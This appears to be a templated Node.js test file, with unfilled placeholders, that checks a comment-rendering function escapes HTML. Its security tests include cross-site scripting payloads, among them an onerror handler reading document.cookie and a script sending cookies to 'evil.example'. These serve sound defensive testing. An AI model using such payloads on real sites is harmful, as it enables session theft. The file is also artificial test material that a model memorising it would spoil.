const { test } = require('node:test');
const assert = require('node:assert/strict');
const { $[fn|camel] } = require('./solution.js');

const TAGS = ['<div class="$[cls]">', '<$[tag]>', '</$[tag]>', '<p>', '</p>', '</div>'];

function render(author, text) {
  return $[fn|camel]($[sig.call]);
}

// a minimal HTML entity decoder: named entities for the five special characters, numeric ones
function unescape(s) {
  const named = { amp: '&', lt: '<', gt: '>', quot: '"', apos: "'" };
  return s.replace(/&(#x[0-9a-f]+|#\d+|[a-z]+);/gi, (m, e) => {
    if (e[0] === '#') return String.fromCodePoint(e[1] === 'x' || e[1] === 'X' ? parseInt(e.slice(2), 16) : Number(e.slice(1)));
    return named[e.toLowerCase()] ?? m;
  });
}

function parts(out) {
  const m = /^<div class="$[cls]"><$[tag]>(.*?)<\/$[tag]><p>(.*?)<\/p><\/div>$/s.exec(out);
  assert.ok(m, 'unexpected markup: ' + out);
  return { tags: out.match(/<[^>]*>/g), author: unescape(m[1]), text: unescape(m[2]) };
}

test('func: a plain comment', () => {
  assert.equal(render('alice', 'Nice post!'), '<div class="$[cls]"><$[tag]>alice</$[tag]><p>Nice post!</p></div>');
});

test('func: another comment', () => {
  assert.equal(render('bob42', 'I disagree with point 3'), '<div class="$[cls]"><$[tag]>bob42</$[tag]><p>I disagree with point 3</p></div>');
});

test('func: special characters in the text are shown', () => {
  const p = parts(render('carol', '5 > 3 & 2 < 4'));
  assert.deepEqual(p.tags, TAGS);
  assert.equal(p.author, 'carol');
  assert.equal(p.text, '5 > 3 & 2 < 4');
});

test('sec: a script in the author', () => {
  const p = parts(render('<script>alert(1)</script>', 'hi'));
  assert.deepEqual(p.tags, TAGS);
  assert.equal(p.author, '<script>alert(1)</script>');
});

test('sec: an event handler in the author', () => {
  assert.deepEqual(parts(render('"><img src=x onerror=alert(document.cookie)>', 'hi')).tags, TAGS);
});

test('sec: a script in the text', () => {
  const attack = "</p><script>fetch('//evil.example/'+document.cookie)</script>";
  const p = parts(render('dave', attack));
  assert.deepEqual(p.tags, TAGS);
  assert.equal(p.text, attack);
});
